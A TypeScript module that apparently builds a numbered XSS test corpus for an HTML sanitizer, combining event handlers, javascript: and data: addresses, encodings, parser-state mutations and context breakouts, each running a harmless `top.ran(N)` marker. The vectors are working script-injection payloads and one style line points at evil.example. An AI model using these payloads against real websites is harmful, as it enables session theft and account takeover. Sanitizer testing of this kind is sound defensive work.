/**
 * Attempts to run a script through a text, made by combining elements, handlers, encodings, addresses, namespaces and
 * parser states; our own, none copied. `top.ran(N)` is what each tries to run, N its number.
 */
export interface Vector {
  readonly family: string;
  /** The number its script reports. */
  readonly number: number;
  readonly html: string;
}

const RUN = "top.ran(0)";
const IMG = `<img src=x: onerror=${RUN}>`;

const ELEMENTS = (
  "a abbr audio b body button canvas custom-tag details dialog div em embed fieldset font form frameset h1 iframe image " +
  "img input isindex keygen label li link marquee math meter object p picture progress search select source span svg " +
  "table td textarea track video"
).split(" ");
const HANDLERS = (
  "load error click dblclick focus focusin blur mouseover mouseenter mousemove pointerdown pointerenter pointerrawupdate " +
  "keydown beforeinput input change submit reset toggle beforetoggle animationstart animationend transitionend " +
  "transitionrun wheel scroll scrollend copy cut paste drag dragenter drop contextmenu auxclick touchstart touchend play " +
  "canplay loadstart seeked cuechange begin end repeat message hashchange pageshow invalid search cancel close " +
  "fullscreenchange gotpointercapture selectstart slotchange securitypolicyviolation formdata contextlost command"
).split(" ");
/** Each handler on this many elements. */
const PER_HANDLER = 6;

/** Every handler, on elements in turn. */
const handlers = HANDLERS.flatMap((name, n) =>
  Array.from({ length: PER_HANDLER }, (_, step) => {
    const element = ELEMENTS[(n * 7 + step * 11) % ELEMENTS.length] ?? "div";
    return `<${element} tabindex=0 on${name}=${RUN}>x</${element}>`;
  }),
);

/** Elements whose handler fires without a person, and how an attribute can be written. */
const FIRING: readonly (readonly [start: string, handler: string])[] = [
  ["img src=x:", "onerror"],
  ["svg", "onload"],
  ["body", "onpageshow"],
  ["details open", "ontoggle"],
  ["video src=x:", "onerror"],
  ["input autofocus", "onfocus"],
  ["style", "onload"],
];
const WRITINGS: readonly ((start: string, handler: string) => string)[] = [
  (start, handler) => `<${start} ${handler}="${RUN}">`,
  (start, handler) => `<${start} ${handler}='${RUN}'>`,
  (start, handler) => `<${start.toUpperCase()} ${handler.toUpperCase()}=${RUN}>`,
  (start, handler) => `<${start.replaceAll(" ", "/")}/${handler}=${RUN}//>`,
  (start, handler) => `<${start.replaceAll(" ", "\t")}\t${handler}\t=\t${RUN}>`,
  (start, handler) => `<${start.replaceAll(" ", "\f")}\f${handler}=${RUN}>`,
  (start, handler) => `<${start.replaceAll(" ", "\n")}\n${handler}\n=\n"${RUN}"\n>`,
  (start, handler) => `<${start} ${handler}=&#116;op&period;ran&lpar;0&rpar;>`,
  (start, handler) => `<${start} ${handler}="&#x74;&#x6f;&#x70;.ran(0)">`,
  (start, handler) => `<${start} ${handler}=\\u0074op.ran(0)>`,
  (start, handler) => `<${start} title=">" ${handler}=${RUN}>`,
  (start, handler) => `<${start} ${handler}=${RUN} ${handler}=void(0)>`,
  (start, handler) => `<${start} ${handler}="${RUN}"`,
  (start, handler) => `<<${start} ${handler}=${RUN}>`,
  (start, handler) => `<p><b><i><${start} ${handler}=${RUN}></p></i></b>`,
  (start, handler) => `<${start}\u0000 ${handler}=${RUN}>`,
  (start, handler) => `<${start} """'${handler}=x ${handler}=${RUN}>`,
  (start, handler) => `<p title='</p><${start} ${handler}=${RUN}>'><${start} ${handler}=${RUN}>`,
];
const writings = FIRING.flatMap(([start, handler]) => WRITINGS.map((write) => write(start, handler)));

const entities = (text: string, form: (code: number) => string) =>
  [...text].map((letter) => form(letter.codePointAt(0) ?? 0)).join("");
/** Ways to write an address that runs. */
const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \n\tjavascript:${RUN}`,
  `\u0001\u001fjavascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript\r:${RUN}`,
  `java&Tab;script&NewLine;&colon;${RUN}`,
  `&#106;avascript&#58;${RUN}`,
  entities(`javascript:${RUN}`, (code) => `&#${code};`),
  entities(`javascript:${RUN}`, (code) => `&#x${code.toString(16)}`),
  entities(`javascript:${RUN}`, (code) => `&#${String(code).padStart(7, "0")};`),
  `javascript://a.example/%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script>*/${RUN}`,
  `javascript:void(${RUN})`,
  `javascript:"<script>${RUN}</script>"`,
  `java\u0000script:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\u2028javascript:${RUN}`,
  `\ufeffjavascript:${RUN}`,
  `vbscript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString("base64")}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
];
/** Places for an address. */
const PLACES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">go</a>`,
  (address) => `<map><area href="${address}" coords=0,0,9,9></map>`,
  (address) => `<form action="${address}"><button>press</button></form>`,
  (address) => `<form><button formaction="${address}">press</button></form>`,
  (address) => `<form><input type=submit formaction="${address}"></form>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>go</text></a></svg>`,
  (address) => `<svg><a href="${address}"><rect width=9 height=9 /></a></svg>`,
  (address) => `<svg><animate attributeName=href values="${address}" /></svg>`,
  (address) => `<math><mi href="${address}">go</mi></math>`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}"><a href=x>go</a>`,
  (address) => `<img src="${address}" alt=x>`,
  (address) => `<img srcset="${address} 1x, ${address} 2x" alt=x>`,
  (address) => `<picture><source srcset="${address}"><img alt=x></picture>`,
  (address) => `<video poster="${address}" src="${address}"></video>`,
  (address) => `<table background="${address}"><tr><td background="${address}">x</table>`,
  (address) => `<p style="background:url('${address}')">x</p>`,
  (address) => `<blockquote cite="${address}">x</blockquote>`,
  (address) => `<span data-embed="${address}"><a href="${address}">video</a></span>`,
  (address) => `<script src="${address}"></script>`,
];
const addresses = PLACES.flatMap((place) => ADDRESSES.map(place));

/** Where the parser changes its rules. */
const STATES = [
  "<svg>",
  "<svg><desc>",
  "<svg><title>",
  "<svg><foreignObject>",
  "<svg></p>",
  "<math>",
  "<math><mtext>",
  "<math><mi>",
  "<math><mtext><table><mglyph>",
  "<math><annotation-xml encoding=text/html>",
  "<form><math><mtext></form><form><mglyph>",
  "<svg><annotation-xml><foreignObject>",
  "<table><caption><svg>",
  "<table><tr><td><math>",
  "<select><option>",
  "<template>",
  "<div><template shadowrootmode=open>",
  "<noscript>",
  "<p><a><table><a>",
  "<ruby><rtc><svg>",
  "<h1><svg><h2>",
  "<listing>",
];
const RAW_TEXT = ["style", "script", "textarea", "title", "xmp", "noscript", "iframe", "noembed", "noframes"];
const BREAKS: readonly ((name: string) => string)[] = [
  (name) => `<${name}><a title="</${name}>${IMG}">`,
  (name) => `<${name}>${IMG}</${name}>`,
  (name) => `<${name}><!--</${name}>${IMG}-->`,
  (name) => `<${name}></${name} x>${IMG}<${name}>`,
];
const mutations = STATES.flatMap((state) => [
  ...RAW_TEXT.flatMap((name) => BREAKS.map((breakOut) => state + breakOut(name))),
  `${state}<![CDATA[>${IMG}]]>`,
  `${state}<!--><x title="-->${IMG}">`,
  `${state}<?x >${IMG}?>`,
]);

const other: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script type="text/javascript;x">${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script/x>${RUN}</script/y>`,
  `<script\n>${RUN}</script\n>`,
  `<script>${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>&#116;op.ran(0)</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}" /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc="<img src=x: onerror=${RUN}>" src="https://www.youtube.com/embed/SQEQr7c0-dw"></iframe>`,
  `<object type=text/html data="data:text/html,<script>${RUN}</script>"></object>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x" /></svg>`,
  `<svg><set attributeName=onload to=${RUN} /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s /></svg>`,
  `<svg><animate attributeName=href values=javascript:${RUN} /><a id=x><text y=9>go</text></a></svg>`,
  `<svg><style>@import "data:text/css,*{x:expression(${RUN})}";</style></svg>`,
  `<style>@import "javascript:${RUN}";</style>`,
  `<style>*{background:url(javascript:${RUN});-moz-binding:url(//evil.example/x.xml#x);behavior:url(x.htc)}</style>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="animation:x" onanimationstart=${RUN}>x</p><style>@keyframes x{}</style>`,
  `<form id=x tabindex=1 onfocus=${RUN}><input name=attributes><input name=nodeName></form>`,
  `<img name=currentScript src=x: onerror=${RUN}>`,
  `<a id=defaultView href="javascript:${RUN}">x</a><a id=defaultView name=ran>y</a>`,
  `<div popover onbeforetoggle=${RUN} id=p>x</div><button popovertarget=p>press</button>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`,
  `<xss onfocus=${RUN} autofocus contenteditable>x</xss>`,
  `<video><source onerror=${RUN} src=x:></video>`,
  `<audio src=x: onerror=${RUN}></audio>`,
  `<link rel=stylesheet href=data:text/css, onload=${RUN}>`,
  `<link rel=modulepreload href="data:text/javascript,${RUN}" onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<marquee loop=1 width=0 onfinish=${RUN}>x</marquee>`,
  `<body onload=${RUN}>`,
  `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  `<isindex type=image src=x: onerror=${RUN}>`,
  `<image src=x: onerror=${RUN}>`,
  `<a href="x" ping="javascript:${RUN}" onmouseover=${RUN}>x</a>`,
  `<plaintext>${IMG}`,
  `<!-->${IMG}-->`,
  `<!--!>${IMG}--!>`,
  `<!-- --!>${IMG}`,
  `<%${IMG}%>`,
  `</x ${IMG}>${IMG}`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `${"<b>".repeat(300)}${IMG}`,
  `<table><a><table><td><a><img src=x: onerror=${RUN}>`,
];

/** What ends a value in another context: a title, an attribute, JSON in a script, CDATA, a template, an address. */
export const BREAKOUTS: readonly string[] = [
  `"><script>${RUN}</script>`,
  `'><img src=x: onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</script ><svg onload=${RUN}>`,
  `<!--<script>${RUN}</script>`,
  `<!--</script><img src=x: onerror=${RUN}>`,
  `"}];${RUN};//`,
  `\\"}];${RUN};//`,
  `'-${RUN}-'`,
  `";${RUN};"`,
  `\u2028${RUN}\u2029`,
  `]]><script>${RUN}</script>`,
  `]]>]]&gt;<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `--><img src=x: onerror=${RUN}>`,
  `" onfocus=${RUN} autofocus x="`,
  `' onmouseover=${RUN} x='`,
  `\` onerror=${RUN} \``,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u{ff1c}script\u{ff1e}${RUN}\u{ff1c}/script\u{ff1e}`,
  `</textarea><img src=x: onerror=${RUN}>`,
  `</style><img src=x: onerror=${RUN}>`,
  `</noscript><img src=x: onerror=${RUN}>`,
  `javascript:${RUN}`,
  `\u202e<script>${RUN}</script>`,
  `0;url=javascript:${RUN}`,
  `a\r\nContent-Type: text/html\r\n\r\n<script>${RUN}</script>`,
  `</head><body onload=${RUN}>`,
];

/** The payload in base64. */
const ENCODED = Buffer.from(`<script>${RUN}</script>`).toString("base64");

const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  handlers,
  writings,
  addresses,
  mutations,
  other,
  breakouts: BREAKOUTS,
};

/** Every vector, numbered from 1. */
export const VECTORS: readonly Vector[] = Object.entries(FAMILIES)
  .flatMap(([family, list]) => list.map((html) => ({ family, html })))
  .map(({ family, html }, at) => ({ family, number: at + 1, html: numbered(html, at + 1) }));

/** A text with this number in each of its scripts, however that is written. */
export function numbered(html: string, number: number): string {
  return html
    .replaceAll("ran(0)", `ran(${number})`)
    .replaceAll("ran&lpar;0&rpar;", `ran&lpar;${number}&rpar;`)
    .replaceAll(ENCODED, () => Buffer.from(`<script>top.ran(${number})</script>`).toString("base64"));
}
